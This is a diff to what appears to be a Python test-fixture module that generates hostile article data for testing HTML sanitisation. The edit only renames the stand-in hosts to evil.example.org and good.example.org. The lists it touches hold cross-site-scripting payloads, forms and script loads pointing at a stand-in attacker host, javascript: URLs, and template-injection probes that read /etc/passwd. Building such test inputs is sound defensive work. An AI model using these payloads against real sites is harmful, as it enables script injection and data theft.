@@ -14,7 +14,7 @@ SHAPES = (
     # script
     f"<script>{FIRE}</script>",
     f"<ScRiPt\t>{FIRE}</sCrIpT\n>",
-    "<script src=//evil.example/x.js></script>",
+    "<script src=//evil.example.org/x.js></script>",
     f"<script type=module>{FIRE}</script>",
     # handlers
     f"<img src=x onerror={FIRE}>",
@@ -27,7 +27,7 @@ SHAPES = (
     f"<style>@keyframes a{{}}</style><b style='animation-name:a' onanimationstart={FIRE}>",
     # what ends an element of ours
     "</title></head><body><h1>taken over</h1>",
-    "</a></h2></li></ol></main></body></html><form action=//evil.example><input name=p>",
+    "</a></h2></li></ol></main></body></html><form action=//evil.example.org><input name=p>",
     f"</textarea></title></style></script></noscript></template><script>{FIRE}</script>",
     "</mark></cite></span></p></article>",
     f"--><script>{FIRE}</script><!--",
@@ -37,19 +37,19 @@ SHAPES = (
     "<xmp><listing><noembed><noframes>",
     # other documents
     f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
-    "<object data=data:text/html,x><embed src=//evil.example>",
-    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<portal src=//evil.example><frameset><frame src=//evil.example>",
+    "<object data=data:text/html,x><embed src=//evil.example.org>",
+    "<base href=//evil.example.org/><meta http-equiv=refresh content='0;url=//evil.example.org'>",
+    "<link rel=stylesheet href=//evil.example.org/x.css>",
+    "<portal src=//evil.example.org><frameset><frame src=//evil.example.org>",
     # links
     f"<a href=javascript:{FIRE}>x</a>",
     f"<a href='&#106;ava\tscript:{FIRE}'>x</a>",
     f"<form action=javascript:{FIRE}><button formaction=javascript:{FIRE}>x",
     f"<a href=vbscript:msgbox(1) href=data:text/html,<script>{FIRE}</script>>x</a>",
     # style
-    "<style>*{display:none}body{background:url(//evil.example)}</style>",
-    "</style><p style='position:fixed;inset:0;background:url(//evil.example)'>",
-    "expression(alert(1));@import '//evil.example';",
+    "<style>*{display:none}body{background:url(//evil.example.org)}</style>",
+    "</style><p style='position:fixed;inset:0;background:url(//evil.example.org)'>",
+    "expression(alert(1));@import '//evil.example.org';",
     # templates and data in scripts
     "{{7*7}}{% include '/etc/passwd' %}${7*7}#{7*7}<%= 7*7 %>",
     "{{config.items()}}{{''.__class__.__mro__}}%(asctime)s%s{0.__class__}",
@@ -89,14 +89,14 @@ DISGUISES: tuple[Callable[[str], str], ...] = (
 )
 KINDS = len(SHAPES) * len(DISGUISES)
 ADDRESSES = (
-    "https://evil.example/{}",
-    "https://evil.example/a?x={}#{}",
+    "https://evil.example.org/{}",
+    "https://evil.example.org/a?x={}#{}",
     "javascript:alert(1)//{}",
     "data:text/html,{}",
     "vbscript:{}",
     " java\tscript:{}",
-    "//evil.example/{}",
-    "https://evil.example@{}",
+    "//evil.example.org/{}",
+    "https://evil.example.org@{}",
     "https:{}",
     "\x01javascript:{}",
 )
@@ -126,7 +126,7 @@ def article(number: int, words: Words = payload) -> dict[str, Any]:
     url = ADDRESSES[number % len(ADDRESSES)].format(words(number, 0), words(number, 1)) if words is payload else None
     return {
         "id": identity,
-        "url": url or f"https://good.example/{number}",
+        "url": url or f"https://good.example.org/{number}",
         "title": said(2),
         "section": said(3),
         "summary": said(4),
@@ -134,7 +134,7 @@ def article(number: int, words: Words = payload) -> dict[str, Any]:
         "published": day,
         "modified": f"2021-{day[5:]}",
         "image": url,
-        "authors": [{"name": said(5), "bio": said(6), "url": url or "https://good.example/author"}],
+        "authors": [{"name": said(5), "bio": said(6), "url": url or "https://good.example.org/author"}],
         "tags": [said(7)],
         "passages": [
             {
@@ -146,7 +146,7 @@ def article(number: int, words: Words = payload) -> dict[str, Any]:
             {"id": f"{identity}#2", "question": said(12), "answer": said(13), "anchor": words(number, 14)},
             {"id": f"{identity}#3", "answer": said(15)},
         ],
-        "links": [{"url": url or "https://good.example/0", "text": said(16)}],
+        "links": [{"url": url or "https://good.example.org/0", "text": said(16)}],
     }
 
 
